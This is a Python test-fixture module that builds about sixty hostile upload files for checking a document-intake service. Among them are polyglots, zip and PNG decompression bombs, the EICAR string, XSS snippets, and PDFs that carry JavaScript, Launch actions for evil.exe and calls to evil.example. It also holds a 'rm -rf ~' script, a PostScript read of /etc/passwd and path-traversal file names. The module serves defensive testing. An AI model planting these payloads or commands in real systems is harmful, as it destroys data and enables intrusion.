"""Some sixty files no office should meet, made on the spot: none of them is in the repository."""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pikepdf
from PIL import Image, TiffImagePlugin

# The test string of the antivirus industry, in two halves so that no antivirus removes this file.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + rb"ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>alert(document.domain)</script>"
PLACE = "Верхня Вигадана"


@dataclass(frozen=True)
class Hostile:
    """`outcome` is the code of the refusal, or "kept" where a harmless copy is."""

    name: str
    content: bytes
    outcome: str


REFUSED_KIND = "documents.kind_not_taken"
DAMAGED = "documents.file_damaged"


def files() -> Iterator[Hostile]:
    """All of them."""
    yield from _not_ours()
    yield from _archives()
    yield from _pictures()
    yield from _pdfs()
    yield from _names()


def jpeg(size: tuple[int, int] = (60, 40), **more: object) -> bytes:
    return _saved(Image.new("RGB", size, (200, 30, 30)), "JPEG", **more)


def png(size: tuple[int, int] = (60, 40), **more: object) -> bytes:
    return _saved(Image.new("RGB", size, (30, 30, 200)), "PNG", **more)


def photo_with_place() -> bytes:
    """A photograph lying on its side that says where it was taken."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F] = 6, PLACE
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", (50.0, 27.0, 0.0), "E", (30.0, 31.0, 0.0)
    return jpeg((80, 40), exif=exif.tobytes(), comment=SCRIPT)


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **saving: object) -> bytes:
    """One empty page, changed."""
    book = pikepdf.new()
    book.add_blank_page(page_size=(200, 200))
    if change is not None:
        change(book)
    out = io.BytesIO()
    book.save(out, **saving)
    return out.getvalue()


def _saved(image: Image.Image, form: str, **more: object) -> bytes:
    out = io.BytesIO()
    image.save(out, form, **more)
    return out.getvalue()


def _not_ours() -> Iterator[Hostile]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    for name, content in (
        ("svg.svg", svg), ("svg-as.png", svg), ("xml-svg.jpg", b'<?xml version="1.0"?>' + svg),
        ("page.html", b"<!doctype html>" + SCRIPT), ("page.pdf", b"<html>" + SCRIPT), ("page.jpg", SCRIPT),
        ("html-before.pdf", SCRIPT + pdf()), ("space-before.pdf", b"\n" + pdf()),
        ("eicar.com", EICAR), ("eicar.pdf", EICAR), ("program.pdf", b"MZ\x90\x00" + bytes(500)),
        ("elf.png", b"\x7fELF" + bytes(500)), ("shell.jpg", b"#!/bin/sh\nrm -rf ~\n"),
        ("script.ps", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n"), ("gif.gif", b"GIF89a" + bytes(40)),
        ("webp.jpg", b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(30)), ("bmp.png", _saved(Image.new("1", (9, 9)), "BMP")),
        ("old-word.pdf", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(1000)), ("text.txt", "Заява".encode()),
        ("rtf.pdf", rb"{\rtf1 {\field{\*\fldinst{INCLUDEPICTURE http://evil.example/}}}}"),
        ("utf16.pdf", "%PDF-1.4".encode("utf-16")),
    ):  # fmt: skip
        yield Hostile(name, content, REFUSED_KIND)
    yield Hostile("empty.pdf", b"", "documents.file_empty")
    yield Hostile("hundred-megabytes.pdf", b"%PDF-1.7\n" + bytes(100 * 1024 * 1024), "documents.file_too_large")
    yield Hostile("photo.heic", b"\x00\x00\x00\x18ftypheic" + bytes(60), "documents.heic_not_taken")


def _archives() -> Iterator[Hostile]:
    inner = _zipped("0.txt", bytes(10_000_000))
    nested = _zipped("1.zip", _zipped("2.zip", inner))
    lying = bytearray(inner)
    lying[22:26] = struct.pack("<I", 0xFFFFFFFF)  # the header says four gigabytes
    overlapping = inner[:-22] * 3 + inner[-22:]
    macro = _zipped("word/vbaProject.bin", b"Attribute VB_Name", "[Content_Types].xml", b"<Types/>")
    for name, content in (
        ("nested.zip", nested), ("nested.pdf", nested), ("overlapping.jpg", overlapping), ("lying.png", bytes(lying)),
        ("macro.docm", macro), ("macro.pdf", macro), ("bomb.gz", gzip.compress(bytes(10_000_000))),
        ("7z.pdf", b"7z\xbc\xaf\x27\x1c" + bytes(60)), ("rar.png", b"Rar!\x1a\x07\x00" + bytes(60)),
    ):  # fmt: skip
        yield Hostile(name, content, REFUSED_KIND)


def _pictures() -> Iterator[Hostile]:
    yield Hostile("place.jpg", photo_with_place(), "kept")
    yield Hostile("zip-behind.jpg", jpeg() + _zipped("evil.html", SCRIPT), "kept")
    yield Hostile("html-behind.png", png() + SCRIPT, "kept")
    yield Hostile("html-in-text.png", _png_with_text(), "kept")
    yield Hostile("profile.jpg", jpeg(icc_profile=b"acsp" + SCRIPT * 50), "kept")
    yield Hostile("eicar-behind.jpg", jpeg() + EICAR, "kept")
    yield Hostile("sideways.tiff", _saved(Image.new("1", (50, 70), 1), "TIFF", compression="group4"), "kept")
    yield Hostile("wide.png", _png_of(30_000, 30_000), "documents.picture_too_large")
    yield Hostile("wide-and-whole.png", _whole_bomb(30_000, 30_000), "documents.picture_too_large")
    yield Hostile("wide.jpg", _jpeg_saying(30_000, 30_000), "documents.picture_too_large")
    yield Hostile("widest.png", _png_of(2**31 - 1, 2**31 - 1), "documents.picture_too_large")
    yield Hostile("nothing.png", _png_of(0, 0), DAMAGED)
    yield Hostile("torn.jpg", jpeg((400, 400))[:600], DAMAGED)
    yield Hostile("torn.png", png((400, 400))[:200], DAMAGED)
    yield Hostile("only-head.jpg", b"\xff\xd8\xff\xe0", DAMAGED)
    yield Hostile("only-head.tiff", b"II*\x00\x08\x00\x00\x00", DAMAGED)
    yield Hostile("ring.tiff", b"II*\x00\x08\x00\x00\x00\x00\x00\x08\x00\x00\x00", DAMAGED)
    yield Hostile("text-bomb.png", _png_text_bomb(), DAMAGED)
    yield Hostile("many-frames.tiff", _tiff_of(301), "documents.file_too_many_pages")


def _pdfs() -> Iterator[Hostile]:
    yield Hostile("scripted.pdf", pdf(_script_on_opening), "kept")
    yield Hostile("named-script.pdf", pdf(_script_by_name), "kept")
    yield Hostile("launching.pdf", pdf(_launch), "kept")
    yield Hostile("calling.pdf", pdf(_call_home), "kept")
    yield Hostile("attached.pdf", pdf(_attach), "kept")
    yield Hostile("form.pdf", pdf(_xfa), "kept")
    yield Hostile("acting-page.pdf", pdf(_page_acts), "kept")
    yield Hostile("chained.pdf", pdf(_chain), "kept")
    yield Hostile("elsewhere.pdf", pdf(_stream_elsewhere), "kept")
    yield Hostile("html-behind.pdf", pdf() + SCRIPT, "kept")
    yield Hostile("zip-behind.pdf", pdf() + _zipped("evil.html", SCRIPT), "kept")
    yield Hostile(
        "packed-script.pdf", pdf(_script_on_opening, object_stream_mode=pikepdf.ObjectStreamMode.generate), "kept"
    )
    locked = pikepdf.Encryption(user="таємно", owner="ще таємніше")
    yield Hostile("locked.pdf", pdf(encryption=locked), "documents.file_encrypted")
    yield Hostile(
        "locked-for-all.pdf", pdf(encryption=pikepdf.Encryption(user="", owner="x")), "documents.file_encrypted"
    )
    yield Hostile("only-head.pdf", b"%PDF-1.7\n", DAMAGED)
    yield Hostile("no-pages.pdf", _pdf_without_pages(), DAMAGED)
    yield Hostile("many-pages.pdf", pdf(_three_hundred_more), "documents.file_too_many_pages")
    yield Hostile("deep.pdf", _deep_pdf(), "kept or refused")
    yield Hostile("object-bomb.pdf", _object_bomb(), "kept or refused")


def _names() -> Iterator[Hostile]:
    for name in (
        "../../../etc/passwd.jpg", "..\\..\\windows\\system.jpg", "photo\x00.php.jpg", "заява\u202egpj.exe.jpg",
        "я" * 300 + ".jpg", "скан.pdf.exe.jpg", "   ", "<img src=x onerror=alert(1)>.jpg", "C:\\CON.jpg", ".htaccess",
    ):  # fmt: skip
        yield Hostile(name, jpeg(), "kept")


def _zipped(*pairs: str | bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in zip(pairs[::2], pairs[1::2], strict=True):
            archive.writestr(str(name), content)
    return out.getvalue()


def _block(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


_PNG = b"\x89PNG\r\n\x1a\n"


def _png_of(width: int, height: int, body: bytes = b"") -> bytes:
    head = _block(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return _PNG + head + _block(b"IDAT", body or zlib.compress(bytes(100))) + _block(b"IEND", b"")


def _whole_bomb(width: int, height: int) -> bytes:
    """A picture of two and a half gigabytes in two and a half megabytes."""
    packer = zlib.compressobj(9)
    row = bytes(1 + width * 3)
    body = b"".join(packer.compress(row) for _ in range(height // 10)) * 1 + packer.flush()
    return _png_of(width, height, body)


def _jpeg_saying(width: int, height: int) -> bytes:
    content = bytearray(jpeg())
    frame = content.index(b"\xff\xc0")
    content[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def _png_with_text() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    said = PngInfo()
    said.add_text("Comment", SCRIPT.decode())
    said.add_itxt("Author", PLACE)
    return png(pnginfo=said)


def _png_text_bomb() -> bytes:
    text = _block(b"zTXt", b"Comment\x00\x00" + zlib.compress(bytes(200_000_000)))
    whole = png()
    return whole[:33] + text + whole[33:]


def _tiff_of(frames: int) -> bytes:
    out = io.BytesIO()
    sheet = Image.new("1", (8, 8), 1)
    sheet.save(out, "TIFF", save_all=True, append_images=[sheet] * (frames - 1), compression="group4")
    assert TiffImagePlugin
    return out.getvalue()


def _script() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('evil-script')")


def _script_on_opening(book: pikepdf.Pdf) -> None:
    book.Root.OpenAction = book.make_indirect(_script())


def _script_by_name(book: pikepdf.Pdf) -> None:
    tree = pikepdf.Dictionary(Names=pikepdf.Array(["evil", book.make_indirect(_script())]))
    book.Root.Names = pikepdf.Dictionary(JavaScript=book.make_indirect(tree))


def _annotation(book: pikepdf.Pdf, **facts: object) -> None:
    rect = pikepdf.Array([0, 0, 100, 100])
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=rect, **facts)
    book.pages[0].obj.Annots = pikepdf.Array([book.make_indirect(note)])


def _launch(book: pikepdf.Pdf) -> None:
    act = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="evil.exe", Win=pikepdf.Dictionary(F="evil.exe", P="/c evil"))
    _annotation(book, Subtype=pikepdf.Name.Link, A=act)


def _call_home(book: pikepdf.Pdf) -> None:
    act = pikepdf.Dictionary(
        S=pikepdf.Name.SubmitForm, F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F="http://evil.example/")
    )
    _annotation(
        book, Subtype=pikepdf.Name.Link, A=act, PA=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="http://evil.example/")
    )


def _attach(book: pikepdf.Pdf) -> None:
    book.attachments["evil.exe"] = b"MZ evil-script"
    kept = book.make_stream(b"MZ evil-script", Type=pikepdf.Name.EmbeddedFile)
    held = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="evil.exe", EF=pikepdf.Dictionary(F=kept))
    _annotation(book, Subtype=pikepdf.Name.FileAttachment, FS=held)


def _xfa(book: pikepdf.Pdf) -> None:
    form = book.make_stream(b"<xdp><script>evil-script</script></xdp>")
    book.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([]), XFA=form, NeedAppearances=True)
    book.Root.NeedsRendering = True


def _page_acts(book: pikepdf.Pdf) -> None:
    book.pages[0].obj.AA = pikepdf.Dictionary(O=_script(), C=_script())
    book.Root.AA = pikepdf.Dictionary(WC=_script())


def _chain(book: pikepdf.Pdf) -> None:
    harmless = pikepdf.Dictionary(
        S=pikepdf.Name.Named, N=pikepdf.Name.NextPage, Next=pikepdf.Array([_script(), _script()])
    )
    _annotation(book, Subtype=pikepdf.Name.Link, A=harmless)


def _stream_elsewhere(book: pikepdf.Pdf) -> None:
    stream = book.make_stream(b"q Q")
    stream.F = "http://evil.example/content"
    book.pages[0].obj.Contents = stream


def _three_hundred_more(book: pikepdf.Pdf) -> None:
    for _ in range(300):
        book.add_blank_page()


def _pdf_without_pages() -> bytes:
    out = io.BytesIO()
    pikepdf.new().save(out)
    return out.getvalue()


def _deep_pdf() -> bytes:
    return pdf().replace(b"/Type /Catalog", b"/Type /Catalog /Deep " + b"[" * 5000 + b"]" * 5000, 1)


def _object_bomb() -> bytes:
    """A stream of objects that unpacks to a gigabyte."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"1 " * 500_000) for _ in range(1000)) + packer.flush()
    parts = [
        b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n",
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources 5 0 R>>endobj\n",
        b"4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed),
        packed, b"\nendstream endobj\n",
    ]  # fmt: skip
    body = b"".join(parts)
    table = struct.pack(">BHB", 0, 0, 0)
    for number in (b"1 0 obj", b"2 0 obj", b"3 0 obj", b"4 0 obj"):
        table += struct.pack(">BHB", 1, body.index(number) & 0xFFFF, 0)
    table += struct.pack(">BHB", 2, 4, 0)
    start = len(body)
    head = b"6 0 obj<</Type/XRef/W[1 2 1]/Size 6/Root 1 0 R/Length %d>>stream\n" % len(table)
    return body + head + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % start
